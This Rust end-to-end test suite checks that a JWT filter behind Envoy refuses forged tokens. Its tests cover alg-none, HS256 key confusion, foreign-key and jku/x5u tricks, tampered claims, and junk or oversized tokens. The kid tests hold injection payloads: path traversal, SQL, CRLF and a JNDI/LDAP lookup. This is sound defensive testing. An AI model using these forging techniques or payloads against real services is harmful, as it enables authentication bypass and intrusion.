//! Token attacks through the real Envoy (RFC 8725), and real admin tokens refused by claim.
//!
//! Tokens are forged here by hand (base64url + a foreign `SigningKeyPair`, HS256 with the
//! `hmac` crate): the attacker never has admin's signing key, so every forged token also
//! fails its signature; that the *claim* checks (nbf, missing exp, iss, aud) refuse a token
//! that is validly signed is shown with real admin tokens where admin can make one (expired:
//! a 1 s token TTL; wrong iss/aud: a filter configured for another issuer/audience) and in
//! core/tests/regressions.rs with a published test key.
//!
//! The `attacks` suite's stack is shared with the API-key attacks (`key_attacks.rs`).

use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
use base64::Engine;
use hmac::{Hmac, Mac};
use keygate_core::signing::SigningKeyPair;
use keygate_core::token::AccessClaims;
use keygate_e2e::{plugin_json, random_bytes, Stack, StackOptions, Tenant};
use serde_json::{json, Value};
use sha2::Sha256;
use std::time::{Duration, Instant};

use crate::path::{assert_denied, three};
use crate::{Case, Suite};

pub fn suites() -> Vec<Suite> {
    vec![
        Suite { name: "attacks", options: StackOptions::default, cases: CASES },
        Suite {
            name: "attacks_expiry",
            options: expiry_options,
            cases: &[("expired_real_token_is_401_invalid_token", expired_real_token)],
        },
        Suite {
            name: "attacks_issuer",
            options: issuer_options,
            cases: &[("real_token_of_another_issuer_is_401_invalid_token", wrong_issuer_real_token)],
        },
        Suite {
            name: "attacks_audience",
            options: audience_options,
            cases: &[("real_token_for_another_audience_is_401_invalid_token", wrong_audience_real_token)],
        },
    ]
}

const CASES: &[Case] = &[
    ("jwt_alg_none_is_refused", alg_none),
    ("jwt_hs256_signed_with_the_published_public_key_is_refused", hs256_confusion),
    ("jwt_foreign_ed25519_key_with_a_known_kid_is_refused", foreign_key_known_kid),
    ("jwt_unknown_kid_is_refused", unknown_kid),
    ("jwt_kid_with_injection_text_is_refused", kid_injection),
    ("jwt_jku_x5u_jwk_x5c_headers_are_refused", key_url_headers),
    ("jwt_crit_with_unknown_extension_is_refused", crit_header),
    ("jwt_tampered_payload_with_original_signature_is_refused", tampered_payload),
    ("jwt_forged_claims_nbf_future_missing_exp_wrong_iss_aud_are_refused", forged_claims),
    ("jwt_revoked_session_is_refused", revoked_session),
    ("jwt_16kb_token_is_refused", huge_token),
    ("jwt_non_base64_junk_is_refused", junk_tokens),
    ("jwt_two_authorization_headers_are_refused", two_authorization_headers),
    ("jwt_bearer_with_empty_value_is_refused", empty_bearer),
];

// ----- stacks -----

fn expiry_options() -> StackOptions {
    StackOptions {
        plugin_json: Some(plugin_json("\n  \"leeway_secs\": 0,", "")),
        admin_args: vec!["--token-ttl-secs".into(), "1".into()],
        ..StackOptions::default()
    }
}

fn issuer_options() -> StackOptions {
    StackOptions { plugin_json: Some(plugin_json("\n  \"issuer\": \"keygate-other\",", "")), ..StackOptions::default() }
}

fn audience_options() -> StackOptions {
    StackOptions { plugin_json: Some(plugin_json("\n  \"audience\": \"another-api\",", "")), ..StackOptions::default() }
}

// ----- helpers -----

/// Never 2xx, never 5xx: 401 with one of `codes`, or (for `envoy_ok`) Envoy's own 4xx
/// when Envoy refuses the request before the filter sees it.
fn assert_refused(what: &str, resp: &(u16, Value), codes: &[&str], envoy_ok: bool) {
    let (status, body) = resp;
    assert!(*status < 500, "{what}: server error {status}: {body}");
    assert!(!(200..300).contains(status), "{what}: let through with {status}: {body}");
    if envoy_ok && body.get("code").is_none() && (400..500).contains(status) {
        return; // Envoy's own refusal (e.g. 431), before the filter.
    }
    assert_eq!(*status, 401, "{what}: {body}");
    assert!(codes.iter().any(|c| body["code"] == *c), "{what}: code {} not in {codes:?}: {body}", body["code"]);
    assert_eq!(body["success"], false, "{what}: {body}");
}

pub(crate) fn ready_tenant(stack: &Stack) -> Tenant {
    let t = stack.tenant();
    stack.wait_for_key(&t.sk);
    t
}

/// A request to an all-three route with a valid key and business and `bearer` as the
/// whole Authorization value.
pub(crate) fn with_bearer(stack: &Stack, t: &Tenant, authorization: &[u8]) -> (u16, Value) {
    stack.through_envoy(
        "GET",
        "/orders",
        &[("authorization", authorization), ("SECRET_KEY", t.sk.as_bytes()), ("businessId", t.business_id.as_bytes())],
    )
}

fn token_refused(stack: &Stack, t: &Tenant, what: &str, token: &str) {
    let resp = with_bearer(stack, t, format!("Bearer {token}").as_bytes());
    assert_refused(what, &resp, &["invalid_token"], false);
}

pub(crate) fn parts(token: &str) -> (Value, Value, String) {
    let mut it = token.split('.');
    let mut json = || serde_json::from_slice::<Value>(&B64.decode(it.next().unwrap()).unwrap()).unwrap();
    let (header, payload) = (json(), json());
    (header, payload, it.next().unwrap().to_owned())
}

fn b64_json(v: &Value) -> String {
    B64.encode(serde_json::to_vec(v).unwrap())
}

fn assemble(header: &Value, payload: &Value, sig: &str) -> String {
    format!("{}.{}.{sig}", b64_json(header), b64_json(payload))
}

fn admin_kid(stack: &Stack) -> (String, String) {
    let (status, jwks) = stack.admin(reqwest::Method::GET, "/.well-known/jwks.json", None, None);
    assert_eq!(status, 200, "{jwks}");
    let key = &jwks["keys"][0];
    (key["kid"].as_str().unwrap().to_owned(), key["x"].as_str().unwrap().to_owned())
}

fn foreign_pair(kid: &str) -> SigningKeyPair {
    SigningKeyPair::from_seed(kid, random_bytes(32).try_into().unwrap())
}

/// The claims of a real token, for re-signing with a foreign key.
fn claims_of(token: &str) -> AccessClaims {
    serde_json::from_value(parts(token).1).unwrap()
}

/// Polls until `f` returns true (the feed is a long-poll: normally well under a second).
pub(crate) fn eventually(what: &str, mut f: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while !f() {
        assert!(Instant::now() < deadline, "{what} did not happen within 10 s");
        std::thread::sleep(Duration::from_millis(50));
    }
}

// ----- JWT attacks (RFC 8725) -----

fn alg_none(stack: &Stack) {
    let t = ready_tenant(stack);
    let (mut header, payload, _) = parts(&t.access_token);
    for alg in ["none", "None", "NONE", "nOnE"] {
        header["alg"] = json!(alg);
        token_refused(stack, &t, &format!("alg {alg}, empty signature"), &format!("{}.{}.", b64_json(&header), b64_json(&payload)));
        token_refused(stack, &t, &format!("alg {alg}, no signature part"), &format!("{}.{}", b64_json(&header), b64_json(&payload)));
    }
}

fn hs256_confusion(stack: &Stack) {
    // The HMAC is right (RFC 4231, test case 2), so the forgery is a real one.
    let mac: String = hmac_sha256(b"Jefe", b"what do ya want for nothing?").iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(mac, "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
    let t = ready_tenant(stack);
    let (kid, x) = admin_kid(stack);
    let (mut header, payload, _) = parts(&t.access_token);
    header["alg"] = json!("HS256");
    header["kid"] = json!(kid);
    let signing_input = format!("{}.{}", b64_json(&header), b64_json(&payload));
    let raw_public = B64.decode(&x).unwrap();
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": x}).to_string();
    // The "secret" an HS256 verifier would use if it trusted the header: the public key in
    // each form it is published in.
    for secret in [raw_public.as_slice(), x.as_bytes(), jwk.as_bytes()] {
        let mac = hmac_sha256(secret, signing_input.as_bytes());
        token_refused(stack, &t, "HS256 with the public key", &format!("{signing_input}.{}", B64.encode(mac)));
    }
}

fn foreign_key_known_kid(stack: &Stack) {
    let t = ready_tenant(stack);
    let (kid, _) = admin_kid(stack);
    let forged = foreign_pair(&kid).sign(&claims_of(&t.access_token)).unwrap();
    token_refused(stack, &t, "foreign key, admin's kid", &forged);
}

fn unknown_kid(stack: &Stack) {
    let t = ready_tenant(stack);
    let forged = foreign_pair("sig_NotPublished1").sign(&claims_of(&t.access_token)).unwrap();
    token_refused(stack, &t, "unknown kid", &forged);
    // And a kid-less header.
    let (mut header, payload, sig) = parts(&t.access_token);
    header.as_object_mut().unwrap().remove("kid");
    token_refused(stack, &t, "no kid", &assemble(&header, &payload, &sig));
}

fn kid_injection(stack: &Stack) {
    let t = ready_tenant(stack);
    let claims = claims_of(&t.access_token);
    let (_, payload, sig) = parts(&t.access_token);
    for kid in [
        "../../../../etc/passwd",
        "/dev/null",
        "' OR '1'='1",
        "x'; DROP TABLE keys;--",
        "sig\r\nX-Injected: 1",
        "sig\u{0}",
        "%00",
        "${jndi:ldap://evil/x}",
        "*",
        "",
    ] {
        // Signed by the attacker under that kid, and the real signature under that kid.
        token_refused(stack, &t, &format!("kid {kid:?} (foreign key)"), &foreign_pair(kid).sign(&claims).unwrap());
        let (mut header, _, _) = parts(&t.access_token);
        header["kid"] = json!(kid);
        token_refused(stack, &t, &format!("kid {kid:?} (original signature)"), &assemble(&header, &payload, &sig));
    }
}

fn key_url_headers(stack: &Stack) {
    let t = ready_tenant(stack);
    let (kid, _) = admin_kid(stack);
    let attacker = foreign_pair(&kid);
    let attacker_x = attacker.public_entry().x;
    let claims = claims_of(&t.access_token);
    let attacker_token = attacker.sign(&claims).unwrap();
    let (_, _, attacker_sig) = parts(&attacker_token);
    let (_, payload, real_sig) = parts(&t.access_token);
    let extras = [
        ("jku", json!("https://evil.example/jwks.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("jwk", json!({"kty": "OKP", "crv": "Ed25519", "x": attacker_x, "kid": kid})),
        ("x5c", json!(["MIIBszCCAVmgAwIBAgIU"])),
    ];
    for (name, value) in extras {
        let (mut header, _, _) = parts(&t.access_token);
        header[name] = value;
        // With the attacker's signature (the attack) and with admin's (header-only change).
        token_refused(stack, &t, &format!("{name} + attacker signature"), &assemble(&header, &payload, &attacker_sig));
        token_refused(stack, &t, &format!("{name} + original signature"), &assemble(&header, &payload, &real_sig));
    }
}

fn crit_header(stack: &Stack) {
    let t = ready_tenant(stack);
    let (mut header, payload, sig) = parts(&t.access_token);
    header["crit"] = json!(["urn:evil:ext"]);
    header["urn:evil:ext"] = json!(true);
    token_refused(stack, &t, "crit unknown extension", &assemble(&header, &payload, &sig));
    header["crit"] = json!(["exp"]);
    token_refused(stack, &t, "crit naming a registered claim", &assemble(&header, &payload, &sig));
}

fn tampered_payload(stack: &Stack) {
    let (t, other) = (ready_tenant(stack), ready_tenant(stack));
    let (header, payload, sig) = parts(&t.access_token);
    let mut edits: Vec<Value> = Vec::new();
    let mut p = payload.clone();
    p["businesses"] = json!([t.business_id, other.business_id]);
    edits.push(p);
    let mut p = payload.clone();
    p["exp"] = json!(p["exp"].as_u64().unwrap() + 86_400 * 365);
    edits.push(p);
    let mut p = payload.clone();
    p["sub"] = json!("usr_admin");
    edits.push(p);
    let mut p = payload.clone();
    p["scope"] = json!("admin:all");
    edits.push(p);
    for edited in &edits {
        token_refused(stack, &t, &format!("tampered payload {edited}"), &assemble(&header, edited, &sig));
    }
    // The same claims re-encoded with whitespace: different bytes, same meaning, refused.
    let spaced = format!("{}.{}.{sig}", b64_json(&header), B64.encode(serde_json::to_string_pretty(&payload).unwrap()));
    token_refused(stack, &t, "re-encoded payload", &spaced);
    // The other tenant's business with this token (and its key): the token is not theirs.
    let bearer = t.bearer();
    assert_denied(&stack.through_envoy("GET", "/orders", &three(&bearer, &other.sk, &other.business_id)), 403, "business_mismatch");
    assert_eq!(with_bearer(stack, &t, bearer.as_bytes()).0, 200, "the untampered token works");
}

fn forged_claims(stack: &Stack) {
    let t = ready_tenant(stack);
    let (kid, _) = admin_kid(stack);
    let attacker = foreign_pair(&kid);
    let (mut header, payload, real_sig) = parts(&t.access_token);
    header["kid"] = json!(kid);
    let now = payload["iat"].as_u64().unwrap();
    let variants: Vec<(&str, Value)> = vec![
        ("nbf in the future", json!({"nbf": now + 3600})),
        ("iat in the future", json!({"iat": now + 3600})),
        ("expired", json!({"exp": now - 3600})),
        ("wrong iss", json!({"iss": "https://evil.example"})),
        ("wrong aud", json!({"aud": "someone-else"})),
        ("aud as an array", json!({"aud": ["keygate-api", "x"]})),
        ("missing exp", json!({"exp": null})),
        ("exp as a string", json!({"exp": "9999999999"})),
        ("extra claim", json!({"admin": true})),
    ];
    for (what, change) in variants {
        let mut p = payload.clone();
        for (k, v) in change.as_object().unwrap() {
            if v.is_null() {
                p.as_object_mut().unwrap().remove(k);
            } else {
                p[k] = v.clone();
            }
        }
        // Re-signed by an attacker under admin's kid, and carrying admin's original signature.
        let signing_input = format!("{}.{}", b64_json(&header), b64_json(&p));
        let forged = match serde_json::from_value::<AccessClaims>(p.clone()) {
            Ok(claims) => attacker.sign(&claims).unwrap(),
            Err(_) => format!("{signing_input}.{}", parts(&attacker.sign(&claims_of(&t.access_token)).unwrap()).2),
        };
        token_refused(stack, &t, &format!("{what} (attacker-signed)"), &forged);
        token_refused(stack, &t, &format!("{what} (original signature)"), &format!("{signing_input}.{real_sig}"));
    }
}

fn revoked_session(stack: &Stack) {
    let t = ready_tenant(stack);
    let bearer = t.bearer();
    assert_eq!(with_bearer(stack, &t, bearer.as_bytes()).0, 200);
    let sid = parts(&t.access_token).1["sid"].as_str().unwrap().to_owned();
    let (status, body) = stack.admin(reqwest::Method::DELETE, &format!("/v1/sessions/{sid}"), Some(keygate_e2e::OPERATOR_TOKEN), None);
    assert!((200..300).contains(&status), "revoke: {status} {body}");
    eventually("the revocation reaching the filter", || with_bearer(stack, &t, bearer.as_bytes()).0 == 401);
    token_refused(stack, &t, "revoked session", &t.access_token);
    // An API-key login token of the same key is another session and still works.
    let (status, login) = stack.admin(reqwest::Method::POST, "/auth/login", None, Some(json!({"api_key": t.sk})));
    assert_eq!(status, 200, "{login}");
    let other = format!("Bearer {}", login["access_token"].as_str().unwrap());
    assert_eq!(with_bearer(stack, &t, other.as_bytes()).0, 200);
}

fn huge_token(stack: &Stack) {
    let t = ready_tenant(stack);
    let (header, payload, sig) = parts(&t.access_token);
    let mut padded = payload.clone();
    padded["pad"] = json!("A".repeat(16 * 1024));
    let big = assemble(&header, &padded, &sig);
    assert!(big.len() > 16 * 1024);
    let resp = with_bearer(stack, &t, format!("Bearer {big}").as_bytes());
    assert_refused("16 KB token", &resp, &["invalid_token"], true);
    let junk = "A".repeat(16 * 1024);
    let resp = with_bearer(stack, &t, format!("Bearer {junk}").as_bytes());
    assert_refused("16 KB junk", &resp, &["invalid_token"], true);
}

fn junk_tokens(stack: &Stack) {
    let t = ready_tenant(stack);
    let junk: &[&[u8]] = &[
        b"Bearer !!!.@@@.###",
        b"Bearer ....",
        b"Bearer a.b.c.d",
        b"Bearer eyJ",
        b"Bearer eyJhbGciOiJFZERTQSJ9..",
        b"Bearer \x80\x81\x82",
        b"Bearer \xff\xfe.\xfd",
        b"Bearer e30.e30.e30",
        b"Basic dXNlcjpwYXNz",
        b"Bearer=abc",
        b"Token abc",
    ];
    for value in junk {
        let resp = with_bearer(stack, &t, value);
        assert_refused(&format!("{:?}", String::from_utf8_lossy(value)), &resp, &["invalid_token", "missing_credentials"], true);
    }
}

fn two_authorization_headers(stack: &Stack) {
    let t = ready_tenant(stack);
    let good = t.bearer();
    for second in [good.as_str(), "Bearer junk"] {
        let resp = stack.through_envoy(
            "GET",
            "/orders",
            &[
                ("authorization", good.as_bytes()),
                ("Authorization", second.as_bytes()),
                ("SECRET_KEY", t.sk.as_bytes()),
                ("businessId", t.business_id.as_bytes()),
            ],
        );
        assert_refused("two Authorization headers", &resp, &["invalid_token"], false);
    }
}

fn empty_bearer(stack: &Stack) {
    let t = ready_tenant(stack);
    for value in [&b"Bearer "[..], b"Bearer", b"Bearer    ", b"bearer", b""] {
        let resp = with_bearer(stack, &t, value);
        assert_refused(&format!("{:?}", String::from_utf8_lossy(value)), &resp, &["missing_credentials", "invalid_token"], false);
    }
}

// ----- real tokens refused by claim -----

fn expired_real_token(stack: &Stack) {
    let t = ready_tenant(stack);
    // A 1 s TTL and no leeway: by the time the key has synced the token may already be
    // dead, so wait it out and then check it is refused for that reason.
    let exp = parts(&t.access_token).1["exp"].as_u64().unwrap();
    let now = || std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    while now() <= exp + 1 {
        std::thread::sleep(Duration::from_millis(200));
    }
    let resp = with_bearer(stack, &t, t.bearer().as_bytes());
    assert_refused("expired token", &resp, &["invalid_token"], false);
    assert!(resp.1["error"].as_str().unwrap().contains("expired"), "{}", resp.1);
}

fn wrong_issuer_real_token(stack: &Stack) {
    let t = ready_tenant(stack);
    let resp = with_bearer(stack, &t, t.bearer().as_bytes());
    assert_refused("token issued by keygate, filter expects keygate-other", &resp, &["invalid_token"], false);
    assert!(resp.1["error"].as_str().unwrap().contains("another service"), "{}", resp.1);
    // The key alone still works on a key route: only the token was refused.
    assert_eq!(stack.through_envoy("GET", "/key/x", &[("SECRET_KEY", t.sk.as_bytes())]).0, 200);
}

fn wrong_audience_real_token(stack: &Stack) {
    let t = ready_tenant(stack);
    let resp = with_bearer(stack, &t, t.bearer().as_bytes());
    assert_refused("token for keygate-api, filter expects another-api", &resp, &["invalid_token"], false);
    assert!(resp.1["error"].as_str().unwrap().contains("another service"), "{}", resp.1);
}

fn hmac_sha256(key: &[u8], msg: &[u8]) -> [u8; 32] {
    let mut mac = Hmac::<Sha256>::new_from_slice(key).expect("HMAC takes a key of any length");
    mac.update(msg);
    mac.finalize().into_bytes().into()
}
